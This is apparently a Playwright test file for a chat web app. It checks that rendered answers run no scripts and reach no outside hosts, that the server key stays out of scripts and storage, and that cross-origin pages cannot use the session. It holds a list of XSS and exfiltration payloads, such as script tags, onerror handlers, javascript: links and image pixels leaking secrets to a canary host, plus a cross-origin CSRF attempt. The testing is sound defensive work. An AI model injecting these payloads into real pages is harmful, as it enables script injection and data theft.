// Nothing in an answer runs or reaches another server, and no script can read the server's key.

import { afterAll, beforeAll, expect, test } from "vitest";
import type { Browser, Page } from "playwright-core";
import { ask, canary, ended, launch, open, startServer, type TestServer } from "./harness";

const KEY = "a-key-of-this-server";
let browser: Browser;
let server: TestServer;
let trap: Awaited<ReturnType<typeof canary>>;

beforeAll(async () => {
  browser = await launch();
  trap = await canary();
  server = await startServer({ model: "sim/echo:pace=0,chunk=7" });
});
afterAll(async () => {
  await browser.close();
  await server.kill();
  trap.close();
});

/** Return the requests to other servers, and the scripts that ran. */
async function watched(page: Page): Promise<{ requests: string[]; ran: () => Promise<unknown> }> {
  const requests: string[] = [];
  page.on("request", (request) => {
    if (/^(https?|wss?):/.test(request.url()) && !request.url().startsWith(server.url)) requests.push(request.url());
  });
  await page.addInitScript(() => {
    Object.assign(window, { ran: [] });
    window.alert = (text?: unknown) => { (window as unknown as { ran: unknown[] }).ran.push(text); };
  });
  page.on("dialog", (dialog) => {
    requests.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("popup", (popup) => requests.push(`popup ${popup.url()}`));
  return { requests, ran: () => page.evaluate(() => (window as unknown as { ran: unknown[] }).ran) };
}

const hostile = (url: string) => [
  `<script src="${url}/script.js"></script><script>alert(1)</script>`,
  `<img src=x onerror="alert(2)"><img src="${url}/img.png">`,
  `![pixel](${url}/pixel.png?secret=1) ![](${url}/empty.png "title")`,
  `![ref][r] [link][r]\n\n[r]: ${url}/reference.png`,
  `[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [case](JaVaScRiPt:alert(5))`,
  `<svg onload="alert(6)"><image href="${url}/svg.png"/></svg>`,
  `<iframe src="${url}/frame.html"></iframe><object data="${url}/object"></object><embed src="${url}/embed">`,
  `<link rel="stylesheet" href="${url}/style.css"><style>@import "${url}/import.css"; body { background: url(${url}/background.png) }</style>`,
  `<form action="${url}/form"><input autofocus onfocus="alert(7)"><button>Send</button></form>`,
  `<base href="${url}/"><meta http-equiv="refresh" content="0;url=${url}/refresh">`,
  `<video src="${url}/video.mp4" autoplay></video><audio src="${url}/audio.mp3" autoplay></audio>`,
  `<a href="${url}/prefetch" ping="${url}/ping">x</a><link rel="prefetch" href="${url}/prefetched">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(8)>">`,
  "```html\n<script>alert(9)</script>\n```\n\n`<img src=x onerror=alert(10)>`",
  `<https://${"a".repeat(60)}.example/?q=1> ${url}/autolink`,
  `\u001b[31mred\u001b]8;;${url}/terminal\u0007link\u001b]8;;\u0007 \u202Egnp.exe`,
  `$\\href{javascript:alert(11)}{x}$ $$\\includegraphics{${url}/tex.png}$$`,
  `| a |\n|---|\n| <img src="${url}/cell.png" onerror="alert(12)"> |`,
];

test("hostile answers, questions and titles run nothing and reach nothing", async () => {
  const page = await (await browser.newContext()).newPage();
  const { requests, ran } = await watched(page);
  const violations: string[] = [];
  page.on("console", (message) => { if (message.text().includes("Content Security Policy")) violations.push(message.text()); });
  await open(page, server.url);
  const texts = hostile(trap.url);
  for (const [place, text] of texts.entries()) {
    await ask(page, text);
    await ended(page, place + 1);
  }
  await page.reload();
  await page.locator(".turn.assistant").last().waitFor();
  const elements = await page.locator(".turns").locator("script, iframe, object, embed, style, link, svg:not(.drawing), form, video, audio, base, meta, img, math a, math [href], mglyph, annotation-xml").count();
  expect(elements).toBe(0);
  const addresses = await page.locator(".turns a").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
  expect(addresses.length).toBeGreaterThan(3);
  expect(new Set(addresses)).toEqual(new Set(["http:", "https:"]));
  const relations = await page.locator(".turns a").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).rel));
  expect(relations.every((relation) => relation.includes("noopener") && relation.includes("noreferrer"))).toBe(true);
  const shown = (await page.locator(".turns").textContent()) ?? "";
  expect(shown).toContain("␛[31mred");
  expect(shown).toContain("⟨U+202E⟩gnp.exe");
  expect(await ran()).toEqual([]);
  expect(requests).toEqual([]);
  expect(violations).toEqual([]);
  expect(trap.requests).toEqual([]);
  await page.context().close();
});

test("an image that comes in pieces is never loaded", async () => {
  const own = await startServer({ model: "sim/echo:pace=0.02,chunk=3" });
  const page = await (await browser.newContext()).newPage();
  const { requests } = await watched(page);
  await open(page, own.url);
  await ask(page, `Look: ![a picture](${trap.url}/split.png?q=a-long-secret-that-was-said) and more text after it`);
  await ended(page);
  expect(requests.filter((url) => !url.startsWith(own.url))).toEqual([]);
  expect(trap.requests).toEqual([]);
  await page.context().close();
  await own.kill();
});

test("the key is sent once, and no script or storage has it", async () => {
  const own = await startServer({ model: "sim/echo:pace=0", key: KEY });
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(own.url);
  await page.getByLabel("The server’s key").fill("wrong");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").waitFor();
  const sent: string[] = [];
  page.on("request", (request) => {
    if ((request.postData() ?? "").includes(KEY) || JSON.stringify(request.headers()).includes(KEY)) sent.push(request.url());
  });
  await page.getByLabel("The server’s key").fill(KEY);
  await page.getByLabel("The server’s key").press("Enter");
  await ask(page, "Hello");
  await ended(page);
  await page.reload();
  await page.locator(".turn.assistant").waitFor();
  expect(sent).toEqual([`${own.url}api/session`]);
  const seen = await page.evaluate(() => JSON.stringify([document.cookie, localStorage, sessionStorage, document.documentElement.outerHTML]));
  expect(seen).not.toContain(KEY);
  expect(seen).not.toContain("turnstream_session");
  const cookie = (await context.cookies()).find(({ name }) => name === "turnstream_session");
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByLabel("The server’s key").waitFor();
  await expect.poll(() => page.locator(".turn").count()).toBe(0);
  await page.reload();
  await page.getByLabel("The server’s key").waitFor();
  await context.close();
  await own.kill();
});

test("a page of another origin cannot use the session", async () => {
  const own = await startServer({ model: "sim/echo:pace=0", key: KEY });
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(own.url);
  await page.getByLabel("The server’s key").fill(KEY);
  await page.getByLabel("The server’s key").press("Enter");
  await page.getByLabel("Message").waitFor();
  const other = await context.newPage();
  await other.goto(`${trap.url}/evil.html`);
  const outcomes = await other.evaluate(async (url) => {
    const attempt = async (options: RequestInit) => {
      try {
        return String((await fetch(`${url}api/chats`, { credentials: "include", ...options })).status);
      } catch {
        return "refused";
      }
    };
    const text = { "Content-Type": "text/plain" };
    return [
      await attempt({}),
      await attempt({ method: "POST", body: "{}", headers: text }),
      await attempt({ method: "POST", body: "{}", headers: { "X-Turnstream-Page": "1", "Content-Type": "application/json" } }),
      await attempt({ method: "POST", body: "{}", headers: text, mode: "no-cors" }),
    ];
  }, own.url);
  expect(outcomes.filter((outcome) => outcome.startsWith("2"))).toEqual([]);
  const listed = await page.evaluate(async () => ((await (await fetch("api/chats")).json()) as { chats: unknown[] }).chats.length);
  expect(listed).toBe(0);
  await context.close();
  await own.kill();
});
